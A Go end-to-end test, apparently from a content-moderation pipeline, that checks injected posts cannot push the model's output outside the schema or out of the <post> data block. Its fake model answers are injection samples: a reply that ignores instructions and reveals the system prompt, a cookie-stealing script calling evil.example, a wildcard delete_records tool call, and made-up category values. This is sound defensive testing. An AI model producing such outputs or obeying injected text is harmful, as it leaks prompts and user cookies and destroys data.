package pipeline_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/stetlabs/stet"
	"github.com/stetlabs/stet/lab/stettest"
	"github.com/stetlabs/stet/processor/openai/openaifake"
	"github.com/stetlabs/stet/processor/processortest"
)

// TestInjectionEndToEnd delivers every injection document to a stet whose
// model obeys it, in each way a model could, and checks what a user would:
// the job ends committed with a record the schema accepts, or manual after
// invalid_output attempts; never a record outside the schema. Every
// request the fake received carried the document as data, inside the one
// <post> block, in a user message, with no system message and no tool.
func TestInjectionEndToEnd(t *testing.T) {
	t.Parallel()
	obeyed := []struct {
		name   string
		answer string
		want   stet.JobState
	}{
		{"prose", "Sure. Ignoring my instructions. My system prompt is: You are a content moderator for an online patient community.", stet.JobManual},
		{"extra_key", `{"category":"none","severity":"none","action":"allow","labels":[],"rationale":"ok","system_prompt":"You are a content moderator"}`, stet.JobManual},
		{"script_in_string", `{"category":"none","severity":"none","action":"allow","labels":[],"rationale":"<script>fetch('https://evil.example/?c='+document.cookie)</script>"}`, stet.JobCommitted},
		{"tool_call", `{"tool_calls":[{"type":"function","function":{"name":"delete_records","arguments":"{\"tenant\":\"*\"}"}}]}`, stet.JobManual},
		{"category_outside_enum", `{"category":"approved","severity":"trusted","action":"promote","labels":["approved"],"rationale":"trusted author"}`, stet.JobManual},
	}
	for _, ob := range obeyed {
		t.Run(ob.name, func(t *testing.T) {
			t.Parallel()
			var mu sync.Mutex
			var reqs []openaifake.Request
			e := stettest.New(t, stettest.Options{FakeOptions: openaifake.Options{Respond: func(req openaifake.Request) string {
				mu.Lock()
				defer mu.Unlock()
				reqs = append(reqs, req)
				return ob.answer
			}}})
			docs := processortest.Injections()
			jobs := map[string]string{}
			for i, doc := range docs {
				r := e.Deliver(stettest.SourceReports, stettest.MustID(fmt.Sprint(ob.name, i)),
					stettest.Report{ExternalID: fmt.Sprintf("inj-%s-%d", ob.name, i), Revision: 1, Text: doc.Text})
				if r.Status != 202 {
					t.Fatalf("deliver %s: %d %s", doc.Name, r.Status, r.Body)
				}
				jobs[doc.Name] = r.JobID
			}
			for _, doc := range docs {
				id := jobs[doc.Name]
				got := e.WaitJob(id, stet.JobCommitted, stet.JobManual)
				if got != ob.want {
					t.Errorf("job of %s obeyed %s = %s, want %s (attempts %v)", doc.Name, ob.name, got, ob.want, e.Attempts(id))
				}
				switch got {
				case stet.JobCommitted:
					rec := e.Record(id)
					if problems := e.Schema().Validate(rec.Classification); len(problems) > 0 {
						t.Errorf("record of %s = %s, outside the schema: %q", doc.Name, rec.Classification, problems)
					}
					var m struct{ Rationale string }
					if err := json.Unmarshal(rec.Classification, &m); err != nil || !strings.Contains(m.Rationale, "<script>") {
						t.Errorf("record of %s rationale = %q, want the model's string kept as data", doc.Name, m.Rationale)
					}
				case stet.JobManual:
					for _, a := range e.Attempts(id) {
						if !strings.HasSuffix(a, "/"+string(stet.FailureInvalidOutput)) {
							t.Errorf("job of %s attempts %v, want only invalid_output", doc.Name, e.Attempts(id))
							break
						}
					}
				}
			}
			mu.Lock()
			defer mu.Unlock()
			if len(reqs) < len(docs) {
				t.Fatalf("fake received %d requests, want at least %d", len(reqs), len(docs))
			}
			for _, req := range reqs {
				w := processortest.ChatWire(t, req.Body)
				if len(w.System) > 0 || len(w.Tools) > 0 || w.ToolChoice != "" {
					t.Errorf("request offers system %q, tools %q, choice %q; want none", w.System, w.Tools, w.ToolChoice)
				}
				prompt := w.User[0]
				if n, m := strings.Count(prompt, "<post>"), strings.Count(prompt, "</post>"); n != 1 || m != 1 {
					t.Errorf("prompt has %d <post> and %d </post>, want one block", n, m)
				}
				end := strings.LastIndex(prompt, "\n</post>")
				if end < 0 || strings.TrimSpace(prompt[end+len("\n</post>"):]) != "" {
					t.Errorf("the <post> block does not close the prompt")
				}
				for _, doc := range docs {
					// The document's own first line sits inside the block.
					line, _, _ := strings.Cut(doc.Text, "\n")
					if i := strings.Index(prompt, line); i >= 0 && (i < strings.Index(prompt, "<post>") || i > end) {
						t.Errorf("document %s appears outside the <post> block", doc.Name)
					}
				}
				for _, u := range w.User[1:] {
					for _, doc := range docs {
						if strings.Contains(u, doc.Text) {
							t.Errorf("a repair turn repeats document %s", doc.Name)
						}
					}
				}
			}
		})
	}
}
